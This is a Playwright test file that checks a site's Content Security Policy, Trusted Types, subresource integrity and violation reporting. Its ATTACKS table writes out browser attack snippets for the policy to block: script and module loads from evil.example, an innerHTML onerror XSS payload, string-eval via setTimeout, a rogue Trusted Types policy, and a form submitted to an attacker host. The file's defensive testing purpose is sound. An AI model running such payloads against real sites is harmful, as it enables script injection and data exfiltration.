import { join } from 'node:path';

import type { Page } from '@playwright/test';

import { THIRD_PARTIES } from '../support/network/addresses';
import { CANARY, canary } from '../support/data/demo-codes';
import { SiteProcess } from '../support/delivery/site-process';
import { expect, test } from '../support/running/visit';

const DIST = join(import.meta.dirname, '../../dist');

const CODE = 'DVDQDWM7GJ4R';

/** Attacks that the content policy must stop. */
const ATTACKS = {
  'import a module from elsewhere': () => {
    import(new URL('https://evil.example/x.js').href).catch(() => undefined);
  },
  'import a module out of a text': () => {
    import(new URL('data:text/javascript,window.isAttacked = true').href).catch(() => undefined);
  },
  'load a script from elsewhere': () => {
    const script = document.createElement('script');
    script.src = 'https://evil.example/x.js';
    document.head.append(script);
  },
  'make markup of a text': () => {
    Reflect.set(document.body, 'innerHTML', '<img src=x onerror="window.isAttacked = true">');
  },
  'make code of a text': () => {
    setTimeout('window.isAttacked = true' as unknown as () => void);
  },
  'write a script into the page': () => {
    const script = document.createElement('script');
    script.textContent = 'window.isAttacked = true';
    document.head.append(script);
  },
  'make another policy': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy: (name: string, rules: object) => void };
    };
    trustedTypes.createPolicy('evil', { createScriptURL: (url: string) => url });
  },
  'be shown in a frame of another': () => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  },
  'take a picture from anywhere': () => {
    const image = document.createElement('img');
    image.src = 'https://evil.example/x.png';
    document.body.append(image);
  },
  'move the base of all addresses': () => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
  },
  // The last one, because the browser waits for the next page then.
  'send a form away': () => {
    const form = document.createElement('form');
    form.action = 'https://evil.example/';
    document.body.append(form);
    form.submit();
  },
};

test('every script and style sheet of the site has the released bytes @I4', async ({
  page,
  home,
  chooser,
  renew,
}) => {
  await renew(CODE);
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    new MutationObserver((changes) => {
      for (const node of changes.flatMap(({ addedNodes }) => [...addedNodes])) {
        const isScript = node instanceof HTMLScriptElement && node.src !== '';
        const isSheet = node instanceof HTMLLinkElement && node.rel === 'stylesheet';
        if (isScript) seen.push(`${node.src} ${node.crossOrigin ?? ''} ${node.integrity}`);
        if (isSheet) seen.push(`${node.href} ${node.crossOrigin ?? ''} ${node.integrity}`);
      }
    }).observe(document, { childList: true, subtree: true });
  });

  await home.open();
  await home.goOnWith(CODE);
  await expect(chooser.heading).toBeVisible();
  await page.getByRole('banner').getByRole('link', { name: 'Support' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Support and FAQ');

  const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  const own = seen.filter((one) => !one.startsWith(THIRD_PARTIES));
  expect(own.length).toBeGreaterThan(10);
  for (const one of own) {
    expect(one).toMatch(/^http:\S+\.(js|css) anonymous sha384-[A-Za-z0-9+/]{64}$/);
  }
});

test('a page cannot make an attack that the content policy must stop @I1', async ({
  page,
  complaints,
}) => {
  await page.goto('/error');

  for (const [attack, make] of Object.entries(ATTACKS)) {
    await test.step(attack, () => expectRefused(page, make, complaints));
  }
});

test('a page runs a captcha that loads scripts of a second origin @I1', async ({
  page,
  complaints,
}) => {
  const site = await SiteProcess.start(DIST, {
    CAPTCHA_SCRIPT_URL: 'https://www.google.com/recaptcha/api.js',
  });
  const rest = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js';
  await page.route('https://www.google.com/recaptcha/api.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `document.head.append(Object.assign(document.createElement('script'), { src: '${rest}' }))`,
    }),
  );
  await page.route(rest, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'window.isHuman = true' }),
  );
  await page.goto(`${site.url}/error`);
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  await page.evaluate(() => {
    const script = document.createElement('script');
    script.src = 'https://www.google.com/recaptcha/api.js';
    document.head.append(script);
  });

  await page.waitForFunction(() => 'isHuman' in window);
  expect(complaints.filter((complaint) => complaint.includes('policy'))).toEqual([]);
  complaints.length = 0;
  await site.stop();
});

test('a violation of the content policy is reported without the code @I1', async ({
  page,
  complaints,
}) => {
  const site = await SiteProcess.start(DIST, { REPORT_URL: '/reports' });
  await page.goto(`${site.url}/nowhere?c=${CANARY}`);
  await page.evaluate(() => {
    document.body.append(Object.assign(document.createElement('img'), { src: '//evil.example/' }));
  });

  await expect
    .poll(() => site.log.filter(({ msg }) => msg === 'a page violated its policy'))
    .toEqual([expect.objectContaining({ directive: 'img-src', blocked: 'http://evil.example' })]);
  expect(JSON.stringify(site.log)).not.toMatch(canary());
  for (const complaint of complaints.splice(0)) expect(complaint).toContain('img-src');
  await site.stop();
});

async function expectRefused(page: Page, make: () => void, complaints: string[]): Promise<void> {
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const asked: string[] = [];
  await page.route('https://evil.example/**', async (route) => {
    asked.push(route.request().url());
    await route.abort();
  });
  complaints.length = 0;

  await page.evaluate(make).catch(() => undefined);

  await expect.poll(() => complaints.join()).toMatch(/Content Security Policy|Trusted|policy/);
  expect(await page.evaluate(() => 'isAttacked' in window)).toBe(false);
  expect(asked).toEqual([]);
  complaints.length = 0;
}
